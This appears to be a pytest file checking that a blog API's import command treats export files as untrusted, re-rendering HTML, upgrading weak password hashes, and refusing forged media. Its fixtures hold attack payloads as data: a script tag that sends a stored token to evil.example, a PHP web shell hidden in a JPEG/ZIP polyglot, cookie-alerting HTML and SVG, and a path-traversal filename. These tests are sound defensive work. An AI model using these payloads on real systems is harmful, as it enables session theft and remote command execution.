"""An export file is not trusted: import makes the HTML itself (revisions' too), takes
password hashes only at a cost this server would pay anyway, and media files only when they
are the images their rows describe."""

from __future__ import annotations

import base64
import copy
import hashlib
import io
import json
import zipfile
from datetime import datetime

import pytest
from passlib.hash import bcrypt
from sqlalchemy import select

from blogapi.backup.export import count_rows
from blogapi.db.models import User
from blogapi.extensions import db
from blogapi.posts.markdown import render_markdown
from blogapi.timeutil import utcnow
from tests.support.accounts import PASSWORD, Account, bearer, login
from tests.support.apps import dispose, make_app
from tests.support.cli import assert_one_line_error, cli, create_user
from tests.support.media import gradient_jpeg, image_bytes, stored_keys, upload
from tests.support.posts import API

SCRIPT = '<script>fetch("https://evil.example/?" + localStorage.token)</script>'


@pytest.fixture(scope="module")
def exported() -> list[dict]:
    """An export of an admin, two seeded authors, six posts and the admin's photo (800x600,
    with variants 320 and 768 wide), as parsed records (made before the test's own app empties
    the database, which on PostgreSQL is the same one)."""
    source = make_app()
    try:
        runner = source.test_cli_runner()
        create_user(runner, "root", "admin")
        assert cli(runner, "seed", "--users", "2", "--posts", "6", "--seed", "3").exit_code == 0
        client = source.test_client()
        root = Account("root", "root@example.com", PASSWORD, "admin")
        root.access_token = login(client, "root").get_json()["access_token"]
        photo = upload(client, root, gradient_jpeg((800, 600)), "photo.jpg")
        assert photo.status_code == 201 and len(photo.get_json()["variants"]) == 2
        result = runner.invoke(args=["export", "-"])
        assert result.exit_code == 0
        return [json.loads(line) for line in result.stdout_bytes.splitlines()]
    finally:
        dispose(source)


def is_public(post: dict) -> bool:
    """Whether an exported post is published (not a draft, nor scheduled)."""
    return bool(post["published_at"]) and datetime.fromisoformat(post["published_at"]) < utcnow()


def import_records(runner, tmp_path, records: list[dict]) -> None:
    """import a file holding these records; it must succeed."""
    path = tmp_path / "blog.jsonl"
    path.write_text("".join(json.dumps(record) + "\n" for record in records))
    result = cli(runner, "import", str(path))
    assert result.exit_code == 0, result.output


def test_a_crafted_body_html_is_replaced_by_the_rendered_body(
    exported, app, client, runner, tmp_path
):
    records = copy.deepcopy(exported)
    posts = [r for r in records if r["type"] == "post" and is_public(r)]
    assert posts
    for post in posts:
        post["body_html"] = SCRIPT
    import_records(runner, tmp_path, records)

    for post in posts:
        served = client.get(f"{API}/posts/{post['slug']}").get_json()
        assert "<script" not in served["body_html"]
        assert served["body_html"] == render_markdown(post["body"])


def test_a_cheaper_hash_is_imported_and_upgraded_at_the_first_login(
    exported, app, client, runner, tmp_path
):
    records = copy.deepcopy(exported)
    root = next(r for r in records if r["type"] == "user" and r["username"] == "root")
    root["password_hash"] = bcrypt.using(rounds=4).hash(PASSWORD)  # an old, cheap bcrypt hash
    import_records(runner, tmp_path, records)

    assert login(client, "root").status_code == 200
    with app.app_context():
        stored = db.session.scalar(select(User.password_hash).where(User.username == "root"))
    assert stored.startswith("$argon2id$v=19$m=256,t=1,p=1$")  # what this server makes
    assert login(client, "root").status_code == 200


def test_a_crafted_revision_body_is_served_rendered_and_restores_safely(
    exported, app, client, runner, tmp_path
):
    records = copy.deepcopy(exported)
    post = next(r for r in records if r["type"] == "post")
    crafted = next(r for r in records if r["type"] == "revision" and r["post_id"] == post["id"])
    crafted.update(body=f"Hello.\n\n{SCRIPT}\n", tags=["C#"])
    import_records(runner, tmp_path, records)

    admin = bearer(login(client, "root").get_json()["access_token"])
    path = f"{API}/posts/{post['id']}/revisions/1"
    shown = client.get(path, headers=admin).get_json()
    assert shown["body"] == crafted["body"] and shown["tags"] == ["c-sharp"]
    assert "<script" not in shown["body_html"]
    restored = client.post(f"{path}/restore", headers=admin)
    assert restored.status_code == 200, restored.get_json()
    assert restored.get_json()["body"] == crafted["body"]
    assert "<script" not in restored.get_json()["body_html"]
    listed = client.get(f"{API}/posts/{post['id']}/revisions", headers=admin).get_json()
    assert [item["number"] for item in listed["items"]] == [2, 1]


def zip_archive() -> bytes:
    """A small ZIP file, the tail of a JPEG/ZIP polyglot."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("payload.php", "<?php system($_GET['c']); ?>")
    return out.getvalue()


def forge(records: list[dict], which: int, data: bytes) -> None:
    """Put `data` in the file record of the photo's image (which=0) or a variant (1, 2), and
    make its row agree on size (and, for the image, on its SHA-256)."""
    media = next(r for r in records if r["type"] == "media")
    key = media["key"] if which == 0 else media["variants"][which - 1]["key"]
    next(r for r in records if r["type"] == "file" and r["key"] == key)["data"] = base64.b64encode(
        data
    ).decode()
    if which == 0:
        media.update(bytes=len(data), sha256=hashlib.sha256(data).hexdigest())
    else:
        media["variants"][which - 1]["bytes"] = len(data)


FORGERIES = {
    "an HTML page as the image": (
        0,
        lambda: b"<!doctype html><script>alert(document.cookie)</script>",
        "its bytes are not image/jpeg",
    ),
    "an SVG with script as a variant": (
        1,
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "its bytes are not image/jpeg",
    ),
    "a PNG under a .jpg key": (0, lambda: image_bytes("PNG", (800, 600)), "are not image/jpeg"),
    "a JPEG/ZIP polyglot as a variant": (
        2,
        lambda: image_bytes("JPEG", (768, 576)) + zip_archive(),
        "it holds more than an image after the image's end",
    ),
    "an image of another size": (
        0,
        lambda: image_bytes("JPEG", (8000, 6000)),
        "it is 8000x6000 pixels, the row says 800x600",
    ),
    "a truncated image": (
        1,
        lambda: image_bytes("JPEG", (320, 240))[:300],
        "its bytes are not image/jpeg",
    ),
}


@pytest.mark.parametrize("case", FORGERIES)
def test_a_file_that_is_not_the_image_its_row_describes_is_refused(
    exported, app, runner, tmp_path, case
):
    which, data, complaint = FORGERIES[case]
    records = copy.deepcopy(exported)
    forge(records, which, data())
    path = tmp_path / "forged.jsonl"
    path.write_text("".join(json.dumps(record) + "\n" for record in records))
    message = assert_one_line_error(cli(runner, "import", str(path)))
    assert complaint in message and message.endswith("Nothing was imported.\n")
    assert stored_keys(app) == set()  # the files before it were removed again
    with app.app_context():
        assert set(count_rows(db.session.connection()).values()) == {0}


def test_a_crafted_file_name_is_cleaned_as_an_upload_is(exported, app, client, runner, tmp_path):
    records = copy.deepcopy(exported)
    media = next(r for r in records if r["type"] == "media")
    media["filename"] = "../../etc/\u202eexe.jpg\x00"
    import_records(runner, tmp_path, records)

    admin = bearer(login(client, "root").get_json()["access_token"])
    shown = client.get(f"{API}/media/{media['id']}", headers=admin).get_json()
    assert shown["filename"] == "exe.jpg"
    served = client.get(f"/media/{media['key']}")
    assert served.status_code == 200 and served.headers["Content-Type"] == "image/jpeg"
